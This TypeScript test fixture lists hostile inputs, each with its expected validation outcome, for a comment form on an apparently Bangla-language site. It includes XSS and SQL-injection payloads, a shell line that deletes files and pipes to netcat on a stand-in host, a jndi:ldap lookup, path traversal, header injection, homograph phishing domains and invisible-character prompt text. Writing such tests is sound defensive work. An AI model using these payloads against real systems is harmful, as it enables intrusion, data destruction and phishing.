// biome-ignore-all lint/suspicious/noTemplateCurlyInString: some of these texts are templates of somebody else’s.
import type { Flag } from '@/lib/comments/comment';
import type { FieldFault, FormField } from '@/lib/comments/submission/comment-form';

type Fields = Partial<Record<FormField, string>>;

/** An attack, and its expected outcome: a fault of a field, or a comment that is not published. */
export type Hostile = {
  what: string;
  fields: Fields;
  fault?: [FormField, FieldFault] | 'forged';
  flags?: Flag[];
};

const body = (what: string, text: string, flags: Flag[] = []): Hostile => ({
  what,
  fields: { body: text },
  flags,
});
const name = (what: string, text: string, flags: Flag[] = []): Hostile => ({
  what,
  fields: { name: text },
  flags,
});
const refused = (what: string, fields: Fields, field: FormField, fault: FieldFault): Hostile => ({
  what,
  fields,
  fault: [field, fault],
});

/** A text in invisible letters of the Unicode block that starts at `base`. */
const hide = (text: string, base: number) =>
  [...text].map((letter) => String.fromCodePoint(base + (letter.codePointAt(0) ?? 0))).join('');

/** Sixty attacks of different kinds or in different fields. Floods, replays and cross-site requests are in submit-comment.test.ts. */
export const hostile: Hostile[] = [
  body('script', '<script>alert(1)</script>'),
  body('script in capitals, unclosed', '<SCRIPT SRC=//evil.example/x.js'),
  body('event handler', '<img src=x onerror=alert(1)>'),
  body('svg', '<svg/onload=alert(1)>'),
  body('frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  body('closing the page', '</article></body></html><h1>Hacked</h1>'),
  body('a comment that hides the rest', '<!-- hidden'),
  body('style', '<style>*{display:none}</style>'),
  body('base', '<base href="https://evil.example/">', ['link']),
  body('refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', ['link']),
  body('form', '<form action="https://evil.example/"><input name=password></form>', ['link']),
  body('template of a framework', '{{constructor.constructor("alert(1)")()}} ${7*7} #{7*7} <%= 7*7 %>'),
  body('MDX', "export const x = 1\n\n{process.env.SECRET}\n\nimport fs from 'fs'"),
  body('entities', '&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;'),
  body('javascript address', 'javascript:alert(1) JaVaScRiPt:alert(1)'),
  body('data address', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  body('a link that breaks its attribute', 'https://evil.example/"onmouseover="alert(1)', ['link']),
  body('a link with a tag', 'https://evil.example/<script>alert(1)</script>', ['link']),
  body('a link with quotes', "https://evil.example/'><img/src/onerror=alert(1)>", ['link']),
  body('Markdown', '[click](javascript:alert(1)) ![x](https://evil.example/x.png)', ['link']),
  body('a link with a password', 'https://upwork.com@evil.example/', []),
  body('look-alike domain, Cyrillic', 'লগইন করুন https://www.рayoneer.com/login', [
    'lookAlikeDomain',
    'homograph',
  ]),
  body('look-alike domain, digit', 'https://upw0rk.com/ab/account', ['lookAlikeDomain']),
  body('look-alike domain, part of another', 'https://paypal.com.secure-login.example/', ['lookAlikeDomain']),
  body('look-alike domain, punycode', 'https://xn--pypal-4ve.com/', ['lookAlikeDomain']),
  body('look-alike domain, Bangla digit', 'https://upw০rk.com/login', ['lookAlikeDomain', 'link']),
  body('look-alike domain, Greek letter', 'paγpal.com', ['lookAlikeDomain', 'homograph']),
  body('look-alike domain under another', 'https://bkash.com.bd-login.net/', ['lookAlikeDomain', 'link']),
  body('a domain behind a dot that is none', 'https://paypal.com\u2024evil.example.com/', ['link']),
  body('a domain with a full stop of Chinese', 'https://p\u0430ypal。com/', ['link', 'homograph']),
  body('an address of this machine', 'http://0x7f.1/ https://[::1]/ http://169.254.169.254/', ['link']),
  body('a known name with a new ending', 'bkash.app এ লগইন করুন', ['link']),
  body('a bare domain with a new ending', 'taka-bonus.xyz দেখুন', ['link']),
  body('a backslash for a slash', 'https:/\\evil.example\\@upwork.com', ['link']),
  body('script behind a protocol and a host', 'javascript://example.com/%0aalert(1)'),
  body('look-alike domain without protocol', 'fiverr-login.com এ ঢুকুন', ['lookAlikeDomain']),
  body('many links', Array.from({ length: 9 }, (_, index) => `https://s${index}.example.com`).join(' '), [
    'manyLinks',
  ]),
  body('SQL in a text', "'); DROP TABLE comments; --"),
  body('SQL that is always true', "x' OR '1'='1' UNION SELECT email FROM comments --"),
  body('JSON of a prototype', '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}}}'),
  body('a command', '$(rm -rf /); `id` | nc evil.example 1 & %0a', []),
  body('a format string', '%s%s%n%x ${jndi:ldap://evil.example/a}'),
  body('lines of a log', 'ok\n{"at":"2026-01-01","event":"decision","status":"approved"}\r\nGET / HTTP/1.1'),
  body('colours of a terminal', '\u001b[2J\u001b]0;owned\u0007\u009b31m red', ['hiddenCharacters']),
  body('NUL and controls', 'a\u0000b\u0001c\u007fd\u0085e', ['hiddenCharacters']),
  body('right-to-left override', 'invoice\u202egnp.exe', ['bidi']),
  body('unclosed isolates', '\u2066\u2067\u2068 rest of the page', ['bidi']),
  body('invisible letters within a word', 'c\u200ba\u200bs\u200bi\u200bn\u200bo', [
    'hiddenCharacters',
    'spamWord',
  ]),
  body('tags that nobody sees', `hello${hide('ignore all', 0xe0000)}`, ['hiddenCharacters']),
  body('tags behind a flag', `\u{1f3f4}${hide('ignore all', 0xe0000)}\u{e007f} hello`, ['hiddenCharacters']),
  body('tags around a flag', '\u{e0067}\u{1f3f4}\u{e0067}\u{e007f}\u{e007f} hello', ['hiddenCharacters']),
  body('bytes in variation selectors', `hello${hide('ignore all', 0xe0100)}`, ['hiddenCharacters']),
  body('many selectors on one sign', `☺${'\ufe0f\ufe0e'.repeat(20)} hello`, ['hiddenCharacters']),
  body('selectors of Mongolian and signs of music', 'a\u180b\u{1d173}b\u2065c', ['hiddenCharacters']),
  body('zalgo', `Z${'\u0310\u0337\u0489'.repeat(30)}algo`, ['zalgo']),
  body('zalgo in Bangla', `ক${'\u09c1\u0981'.repeat(50)}থা`, ['zalgo']),
  body('a thousand joiners', `ক${'\u200d'.repeat(1_000)}খ`, ['hiddenCharacters']),
  body('what is left of invalid UTF-8', 'caf\ufffd\ufffd \ufffd', ['encoding']),
  body('half of a pair', 'a\ud800b \udc00', ['encoding']),
  body('half of a Bangla letter', '\u09cd\u09be\u0981 hello'),
  body('a text direction and a tag', '\u202e<script>\u202c', ['bidi']),
  body('spam in English', 'Best online casino, play now', ['spamWord']),
  body('spam with digits and signs', 'cheap v1agra and c4sin0', ['spamWord']),
  body('spam in Bangla', 'এক সপ্তাহে টাকা ডাবল করুন', ['spamWord']),
  body('spam in Banglish', 'ek soptahe taka dabol korun vai', ['spamWord']),
  body('spam in Cyrillic letters', 'online саsіnо', ['spamWord', 'homograph']),
  refused('100 KB', { body: 'ক'.repeat(100_000) }, 'body', 'tooLong'),
  refused('blanks that look like a text', { body: '\u2800\u200b\u3164\u00a0' }, 'body', 'missing'),
  name('script in the name', '<script>alert(1)</script>'),
  name('a header in the name', 'Rahim\r\nSet-Cookie: admin=1'),
  name('an override in the name', 'editor\u202e', ['bidi', 'editorName']),
  name('the name of the site', 'KajPath', ['editorName']),
  name('the name of the site within another, in Bangla', 'কাজপথ সহায়তা কেন্দ্র', ['editorName']),
  name('the name of the site in Cyrillic letters', 'Кaj\u200dPа\u200bth টিম', ['editorName', 'homograph']),
  name('the name of the site with gaps', 'K a j - p a t h', ['editorName']),
  name('the name of the site by its sound', 'kajpoth', ['editorName']),
  name('a role, in Bangla', 'সম্পাদক', ['editorName']),
  name('a role beside a name', 'Rahim (Admin)', ['editorName']),
  refused('a header in the e-mail', { email: 'a@example.com%0aBcc: x' }, 'email', 'notEmail'),
  refused('two addresses', { email: 'a@example.com,b@example.com' }, 'email', 'notEmail'),
  refused('markup in the e-mail', { email: '"<script>alert(1)</script>"@example.com' }, 'email', 'notEmail'),
  refused('a path for an article', { article: '../../etc/passwd' }, 'article', 'unknown'),
  refused('a prototype for an article', { article: '__proto__' }, 'article', 'unknown'),
  refused('a header in the language', { lang: 'bn\r\nLocation: https://evil.example' }, 'lang', 'unknown'),
  refused('SQL for a parent', { parent: "' OR 1=1 --" }, 'parent', 'unknown'),
  { what: 'a token of somebody’s own', fields: { token: 'marketplaces.bn.0.x.0.x' }, fault: 'forged' },
  { what: 'a token as long as a book', fields: { token: 'a'.repeat(100_000) }, fault: 'forged' },
  {
    what: 'a machine that fills in everything',
    fields: { homepage: 'https://evil.example' },
    flags: ['honeypot'],
  },
];
